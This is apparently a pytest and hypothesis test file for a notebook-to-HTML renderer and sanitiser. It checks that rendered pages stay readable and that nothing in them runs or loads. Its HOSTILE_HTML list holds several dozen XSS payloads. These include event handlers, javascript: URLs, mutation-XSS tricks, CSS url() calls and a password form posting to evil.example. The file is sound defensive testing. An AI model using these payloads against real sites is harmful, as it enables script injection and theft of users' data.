"""The kept page of a notebook: it reads as the notebook does, and it runs and loads nothing."""

from __future__ import annotations

import base64
import logging
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from vaportrail.notebooks.html_sanitiser import sanitise
from vaportrail.notebooks.notebook_html import notebook_html

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
# What pandas 2 writes for `DataFrame({"a": [1], "b": [2.5]}, index=["first"])`.
PANDAS = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;"><th></th><th>a</th><th>b</th></tr>
  </thead>
  <tbody>
    <tr><th>first</th><td>1</td><td>2.5</td></tr>
  </tbody>
</table>
</div>"""
PLOTLY_PAGE = '<div><script src="https://cdn.plot.ly/plotly.js"></script><div id="x"></div></div>'
PLOTLY = {"application/vnd.plotly.v1+json": {"data": []}, "text/html": PLOTLY_PAGE}
WIDGET = {
    "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2},
    "text/plain": "IntSlider(value=3)",
}


def page(*cells: Any) -> Element:
    """Return the DOM that a browser makes of the page of a notebook of these cells."""
    text = notebook_html(new_notebook(cells=list(cells)), "title")
    return html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)


def showing(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Any:
    output = new_output("display_data", data, metadata=metadata or {})
    return new_code_cell("x", execution_count=1, outputs=[output])


def body(dom: Element) -> Element:
    found = dom.find("body")
    assert found is not None
    return found


def text(element: Element) -> str:
    return " ".join(" ".join(element.itertext()).split())


def active(root: Element) -> list[str]:
    """Return what of a body could run, load, submit, or lay itself over the page."""
    found = []
    for element in root.iter():
        tag = str(element.tag)
        if tag not in INERT:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            scheme = urlsplit("".join(value.split())).scheme.lower()
            if name.lower().startswith("on") or name in ("srcdoc", "srcset", "action", "formaction", "ping"):
                found.append(f"{tag} {name}={value}")
            if name == "src" and not value.startswith("data:image/"):
                found.append(f"{tag} src={value}")
            if name not in ("src", "href") and "javascript:" in value.replace(" ", "").lower():
                found.append(f"{tag} {name}={value}")
            if name == "href" and (scheme not in ("http", "https", "mailto", "") or value[:1] not in "hHmM#"):
                found.append(f"{tag} href={value}")
            if name == "style" and ("url" in value or "position" in value or "\\" in value):
                found.append(f"{tag} style={value}")
            if name in ("width", "height") and not value.isdigit():
                found.append(f"{tag} {name}={value}")
    return found


INERT = {
    *(
        "body",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "div",
        "span",
        "br",
        "hr",
        "pre",
        "code",
        "blockquote",
    ),
    *("a", "b", "strong", "i", "em", "u", "s", "del", "ins", "small", "sub", "sup", "mark", "kbd", "samp"),
    *("var", "abbr", "cite", "q", "dfn", "time", "bdi", "wbr", "tt", "strike", "big", "center", "font"),
    *("ul", "ol", "li", "dl", "dt", "dd", "details", "summary", "figure", "figcaption", "img"),
    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("section", "article", "header", "footer", "main", "aside", "nav", "address"),
}


@pytest.mark.parametrize("level", range(1, 7))
def test_headings_are_headings(level: int) -> None:
    dom = page(new_markdown_cell(f"{'#' * level} Some *title*\n\ntext"))

    assert [text(h).rstrip("¶ ") for h in dom.iter(f"h{level}")] == ["Some title"]


def test_a_data_frame_is_a_table_with_its_head_and_index() -> None:
    [table] = page(showing({"text/html": PANDAS, "text/plain": "..."})).iter("table")

    head, rows = table.find("thead"), table.find("tbody")
    assert head is not None
    assert rows is not None
    assert [text(th) for th in head.iter("th")] == ["", "a", "b"]
    assert [[text(cell) for cell in row] for row in rows.iter("tr")] == [["first", "1", "2.5"]]


@pytest.mark.parametrize(
    "cell",
    [
        new_markdown_cell(
            "# A\n\nb\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n1. one\n\n> said\n\n`code` ~~gone~~"
        ),
        showing({"text/html": PANDAS}),
        showing({"text/markdown": "## B\n\n* c"}),
        new_raw_cell("<h1>raw</h1>"),
    ],
    ids=["markdown", "pandas", "markdown output", "raw"],
)
def test_no_tag_is_shown_as_text_nor_a_style(cell: Any) -> None:
    shown = text(body(page(cell)))

    assert "<" not in shown
    assert "vertical-align" not in shown


def test_code_and_what_it_printed_are_there_to_read() -> None:
    printed = new_output("stream", name="stdout", text="<b>5 < 6</b> & \x1b[31mred\x1b[0m")
    shown = text(body(page(new_code_cell("print('<b>')\n", execution_count=3, outputs=[printed]))))

    assert "In [3]" in shown
    assert "print ( '<b>' )" in shown or "print('<b>')" in shown
    assert "<b>5 < 6</b> & red" in shown


@pytest.mark.parametrize("kind", ["image/png", "image/jpeg", "image/svg+xml"])
def test_images_are_shown_in_place(kind: str) -> None:
    data = "<svg xmlns='http://www.w3.org/2000/svg'></svg>" if kind == "image/svg+xml" else PNG
    [img] = page(showing({kind: data}, {kind: {"width": 20, "height": "10"}})).iter("img")

    assert img.attrib["src"].startswith(f"data:{kind};base64,")
    if kind != "image/svg+xml":
        assert (img.attrib["width"], img.attrib["height"]) == ("20", "10")


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (PLOTLY, "A Plotly figure is not shown"),
        (WIDGET, "A widget is not shown"),
        ({"application/javascript": "alert(1)"}, "What a script draws is not shown"),
        ({"text/html": "<script>alert(1)</script>"}, "An output of the type text/html is not shown"),
        ({"application/x-odd": "1"}, "An output of the type application/x-odd is not shown"),
    ],
    ids=["plotly", "widget", "javascript", "only a script", "unknown"],
)
def test_a_word_stands_in_the_place_of_what_needs_scripts(data: dict[str, Any], word: str) -> None:
    assert word in text(body(page(showing(data))))


def test_what_a_widget_says_of_itself_is_kept_beside_the_word() -> None:
    assert "IntSlider(value=3)" in text(body(page(showing(WIDGET))))


def test_a_picture_of_what_needs_scripts_is_shown_instead_of_a_word() -> None:
    dom = page(showing({**PLOTLY, "image/png": PNG}))

    assert len(list(dom.iter("img"))) == 1
    assert "not shown" not in text(body(dom))


def test_an_output_that_leaves_tags_open_swallows_nothing_that_follows() -> None:
    opened = ("<!--", "<table><tr><td>", "<textarea>", "<plaintext>", "</div></div></div>", "<pre", "<a")
    cells: list[Any] = []
    for tag in opened:
        cells += [showing({"text/html": f"<p>x</p>{tag}"}), new_markdown_cell("# What follows")]

    assert [text(h).rstrip("¶ ") for h in page(*cells).iter("h1")] == len(opened) * ["What follows"]


def test_a_page_is_made_without_a_word_in_the_log(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        page(new_markdown_cell("![](https://example.com/x.png)"), showing({"image/png": PNG}))

    assert [record.getMessage() for record in caplog.records if record.levelno >= logging.INFO] == []


def test_the_pages_policy_forbids_scripts_and_loading() -> None:
    [policy] = [m for m in page(new_code_cell("x")).iter("meta") if "http-equiv" in m.attrib]

    assert policy.attrib["content"].startswith("default-src 'none'; img-src data:;")


HANDLER = "1 onload=alert(document.domain) x="
HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/x.png'>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x' ping='https://evil.example' target=_top>x</a>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='background-color:u\\72l(https://evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>",
    "<style>@import 'https://evil.example'; body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button formaction=x>y</button></form>",
    "<object data='data:text/html,x'></object><embed src='x'>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<details ontoggle=alert(1) open>x</details>",
    "<p id=x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<img width='1 onload=alert(1)' src=data:image/png;base64,AAAA>",
]


FORMS: dict[str, Callable[[str], Any]] = {
    "html": lambda source: showing({"text/html": source}),
    "isolated html": lambda source: showing({"text/html": source}, {"text/html": {"isolated": True}}),
    "markdown": new_markdown_cell,
    "markdown output": lambda source: showing({"text/markdown": source}),
    "raw": new_raw_cell,
    "latex": lambda source: showing({"text/latex": source}),
    "svg": lambda source: showing({"image/svg+xml": source}),
    "code": lambda source: new_code_cell(source, execution_count=1),
    "error": lambda source: new_code_cell(
        "x", outputs=[new_output("error", ename=source, evalue=source, traceback=[source])]
    ),
}


@pytest.mark.parametrize("form", FORMS)
def test_nothing_of_hostile_outputs_runs_or_loads(form: str) -> None:
    dom = page(*map(FORMS[form], HOSTILE_HTML), new_markdown_cell("# The end"))

    assert active(body(dom)) == []
    assert [text(h).rstrip("¶ ") for h in dom.iter("h1")] == ["The end"]


@pytest.mark.parametrize("kind", ["image/png", "image/jpeg", "image/svg+xml"])
def test_an_images_metadata_cannot_carry_a_handler(kind: str) -> None:
    names = ("width", "height", "alt", "unconfined", "filenames")
    said = [{kind: {name: HANDLER}, "filenames": {kind: f"x {HANDLER}"}, name: HANDLER} for name in names]
    dom = page(*(showing({kind: PNG}, metadata) for metadata in said))

    assert len(list(dom.iter("img"))) == len(names)
    assert active(body(dom)) == []


def test_tags_and_titles_cannot_carry_a_handler() -> None:
    cell = new_code_cell("x", metadata={"tags": [f"'\">{HANDLER}", HANDLER]})
    notebook = notebook_html(new_notebook(cells=[cell]), f"</title><img onerror=x>{HANDLER}")

    assert active(body(html5lib.parse(notebook, namespaceHTMLElements=False))) == []


PIECES = st.sampled_from(
    [
        *HOSTILE_HTML,
        "<",
        ">",
        "'",
        '"',
        "</style>",
        "<!--",
        "-->",
        "<math>",
        "<svg>",
        "<table>",
        "<p x='",
        "]]>",
        "\0",
    ]
)


@given(st.lists(PIECES, max_size=5).map("".join))
@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
def test_sanitised_html_is_inert_however_its_pieces_are_put_together(source: str) -> None:
    dom = html5lib.parse(f"<body>{sanitise(source)}", treebuilder="etree", namespaceHTMLElements=False)

    assert active(body(dom)) == []


@given(st.lists(PIECES, max_size=5).map("".join))
@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
def test_sanitising_twice_changes_nothing_more(source: str) -> None:
    once = sanitise(source)

    assert sanitise(once) == once
